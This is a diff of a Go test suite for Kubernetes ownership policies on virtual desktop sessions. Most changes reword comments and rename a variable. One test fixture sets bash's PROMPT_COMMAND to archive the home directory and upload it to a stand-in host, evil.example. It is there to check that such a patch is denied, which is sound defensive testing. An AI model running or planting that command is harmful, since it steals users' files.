@@ -77,7 +77,7 @@ roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-hub}
 subjects: [{kind: ServiceAccount, namespace: fleet, name: vdi-hub}]
 `
 
-// intoTheDesktop has a command run in the desktop of whoever's session it is put
+// intoTheDesktop has a command run in the desktop of the session that it is put
 // into: bash runs it before each prompt.
 const intoTheDesktop = `{"spec":{"attempt":1,"env":[{"name":"PROMPT_COMMAND","value":"tar cz ~ | curl -sT - https://evil.example/"}]}}`
 
@@ -139,7 +139,7 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 		Entry("that ends it sooner", `{"spec":{"timeout":"1s"}}`),
 		Entry("that labels it", `{"metadata":{"labels":{"tier":"production"}}}`),
 		Entry("that has it outlive its deletion", `{"metadata":{"finalizers":["example.com/mine","vdi.kasm.io/session-cleanup"]}}`),
-		Entry("that gives it an owner, with which it is collected", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"1"}]}}`),
+		Entry("that sets an owner, with which it is collected", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"1"}]}}`),
 	)
 
 	It("deny to delete another's session, alone and among all", func(ctx context.Context) {
@@ -147,7 +147,7 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 		Expect(as(hub, bobOfSamples).Delete(ctx, name, metav1.DeleteOptions{})).To(MatchError(ContainSubstring("session asked is of alice@example.com")))
 		zero := int64(0)
 		Expect(as(hub, bobOfSamples).Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: &zero})).To(MatchError(ContainSubstring("session asked is of alice@example.com")))
-		// vdi-user has no deletecollection; one who has is judged session by session.
+		// vdi-user has no deletecollection; a user who has it is checked session by session.
 		Expect(as(hub, bobOfSamples).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})).To(MatchError(apierrors.IsForbidden, "IsForbidden"))
 		Expect(hub.Apply(ctx, []byte(collector))).To(Succeed())
 		Eventually(ctx, func(ctx context.Context) error {
@@ -163,34 +163,34 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 		Expect(err).To(MatchError(ContainSubstring("session asked is of alice@example.com")))
 	})
 
-	It("deny it to whoever may see it all", func(ctx context.Context) {
+	It("deny it to a user who may read everything", func(ctx context.Context) {
 		Expect(modify(ctx, hub, viewer, alices(ctx), `{"spec":{"timeout":"2h"}}`)).To(MatchError(apierrors.IsForbidden, "IsForbidden"))
 	})
 
-	DescribeTable("let a session be changed and deleted by", func(ctx context.Context, who requester) {
+	DescribeTable("allow a session to be changed and deleted by", func(ctx context.Context, caller requester) {
 		name := alices(ctx)
-		Expect(modify(ctx, hub, who, name, `{"spec":{"operatingMode":"Suspended"}}`)).To(Succeed())
-		Expect(as(hub, who).Delete(ctx, name, metav1.DeleteOptions{DryRun: dryRun.DryRun})).To(Succeed())
+		Expect(modify(ctx, hub, caller, name, `{"spec":{"operatingMode":"Suspended"}}`)).To(Succeed())
+		Expect(as(hub, caller).Delete(ctx, name, metav1.DeleteOptions{DryRun: dryRun.DryRun})).To(Succeed())
 	},
 		Entry("its user", aliceOfSamples),
-		Entry("one who may impersonate that user", helpdesk),
+		Entry("a user who may impersonate that user", helpdesk),
 		Entry("an operator", operator),
 		Entry("an administrator of the cluster", root),
 	)
 
-	It("deny it to one who may impersonate somebody else", func(ctx context.Context) {
+	It("deny it to a user who may impersonate another one", func(ctx context.Context) {
 		made := create(ctx, hub, bobOfSamples, sessionFor("bob@example.com"))
 		Expect(modify(ctx, hub, helpdesk, made.GetName(), `{"spec":{"timeout":"2h"}}`)).To(MatchError(ContainSubstring("session asked is of bob@example.com")))
 	})
 
-	It("let the hub work, in whatever namespace it is installed", func(ctx context.Context) {
+	It("allow the hub to work, in whatever namespace it is installed", func(ctx context.Context) {
 		name := alices(ctx)
 		Expect(modify(ctx, hub, hubOfRelease, name, `{"metadata":{"annotations":{"vdi.kasm.io/move":null}}}`)).To(Succeed())
 		Expect(modify(ctx, hub, hubOfRelease, name, `{"metadata":{"finalizers":null}}`)).To(Succeed())
 		Expect(modify(ctx, hub, hubOfRelease, name, fmt.Sprintf(`{"metadata":{"finalizers":[%q]}}`, vdi.Finalizer))).To(Succeed())
 	})
 
-	It("let the control plane delete what was in a namespace", func(ctx context.Context) {
+	It("allow the control plane to delete what was in a namespace", func(ctx context.Context) {
 		Expect(hub.Apply(ctx, []byte(controllers))).To(Succeed())
 		name := alices(ctx)
 		Eventually(ctx, func(ctx context.Context) error {
@@ -208,7 +208,7 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 		_, err := as(hub, aliceOfSamples).Create(ctx, annotated, dryRun)
 		Expect(err).To(MatchError(HaveSuffix("denied request: " + message)))
 		Expect(modify(ctx, hub, operator, name, set)).To(Succeed())
-		Expect(modify(ctx, hub, aliceOfSamples, name, `{"spec":{"timeout":"2h"}}`)).To(Succeed(), "what is there already is not judged again")
+		Expect(modify(ctx, hub, aliceOfSamples, name, `{"spec":{"timeout":"2h"}}`)).To(Succeed(), "what exists already is not checked again")
 		Expect(modify(ctx, hub, aliceOfSamples, name, unset)).To(MatchError(HaveSuffix("denied request: " + message)))
 		Expect(modify(ctx, hub, aliceOfSamples, name, `{"metadata":{"annotations":{"example.com/mine":"x"}}}`)).To(Succeed())
 		Expect(modify(ctx, hub, operator, name, unset)).To(Succeed())
@@ -227,18 +227,18 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 		Expect(modify(ctx, hub, aliceOfSamples, name, fmt.Sprintf(`{"metadata":{"finalizers":[%q]}}`, vdi.Finalizer))).To(Succeed(), "a user's own finalizer is the user's")
 	})
 
-	DescribeTable("let nobody but the hub remove its finalizer of a", func(ctx context.Context, resource, finalizer string) {
+	DescribeTable("allow only the hub to remove its finalizer of a", func(ctx context.Context, resource, finalizer string) {
 		held := build(resource, `metadata: {name: held}`)
 		held.SetFinalizers([]string{finalizer})
-		as := func(who requester) dynamic.ResourceInterface {
-			all := clientOf(hub, who, vdi.GroupVersion.WithResource(resource))
+		as := func(caller requester) dynamic.ResourceInterface {
+			all := clientOf(hub, caller, vdi.GroupVersion.WithResource(resource))
 			if held.GetKind() == "VDIHome" {
 				return all.Namespace("desktops")
 			}
 			return all
 		}
-		remove := func(who requester) error {
-			_, err := as(who).Update(ctx, held, metav1.UpdateOptions{})
+		remove := func(caller requester) error {
+			_, err := as(caller).Update(ctx, held, metav1.UpdateOptions{})
 			return err
 		}
 		held, err := as(root).Create(ctx, held, metav1.CreateOptions{})
@@ -254,15 +254,15 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 		Entry("home", "vdihomes", vdi.HomeFinalizer),
 	)
 
-	It("give the roles of people no Secrets", func(ctx context.Context) {
-		for _, who := range []requester{aliceOfSamples, viewer, operator} {
-			_, err := clientOf(hub, who, corev1.SchemeGroupVersion.WithResource("secrets")).Namespace("desktops").List(ctx, metav1.ListOptions{})
-			Expect(err).To(MatchError(apierrors.IsForbidden, "IsForbidden"), who.user)
+	It("grant the roles of people no Secrets", func(ctx context.Context) {
+		for _, caller := range []requester{aliceOfSamples, viewer, operator} {
+			_, err := clientOf(hub, caller, corev1.SchemeGroupVersion.WithResource("secrets")).Namespace("desktops").List(ctx, metav1.ListOptions{})
+			Expect(err).To(MatchError(apierrors.IsForbidden, "IsForbidden"), caller.user)
 		}
 	})
 })
 
-// hubUpdates lets the hub update by PUT what it patches, so that one request does for
+// hubUpdates allows the hub to update by PUT what it patches, so that one request does for
 // all kinds here. Its right to remove finalizers is that of the hub's chart alone.
 const hubUpdates = `
 apiVersion: rbac.authorization.k8s.io/v1
@@ -272,7 +272,7 @@ roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: updater}
 subjects: [{kind: ServiceAccount, namespace: fleet, name: vdi-hub}]
 `
 
-// collector lets users delete collections, as some roles of other systems do.
+// collector allows users to delete collections, as some roles of other systems do.
 const collector = `
 apiVersion: rbac.authorization.k8s.io/v1
 kind: Role
@@ -286,8 +286,8 @@ roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: collector}
 subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: bob@example.com}]
 `
 
-// controllers gives the namespace controller what kube-controller-manager's own role
-// gives it.
+// controllers grants the namespace controller what kube-controller-manager's own role
+// grants it.
 const controllers = `
 apiVersion: rbac.authorization.k8s.io/v1
 kind: RoleBinding
@@ -297,7 +297,7 @@ subjects: [{kind: ServiceAccount, namespace: kube-system, name: namespace-contro
 `
 
 // modify patches a session of namespace desktops.
-func modify(ctx context.Context, hub *harness.ControlPlane, who requester, name, change string) error {
-	_, err := as(hub, who).Patch(ctx, name, types.MergePatchType, []byte(change), metav1.PatchOptions{})
+func modify(ctx context.Context, hub *harness.ControlPlane, caller requester, name, change string) error {
+	_, err := as(hub, caller).Patch(ctx, name, types.MergePatchType, []byte(change), metav1.PatchOptions{})
 	return err
 }
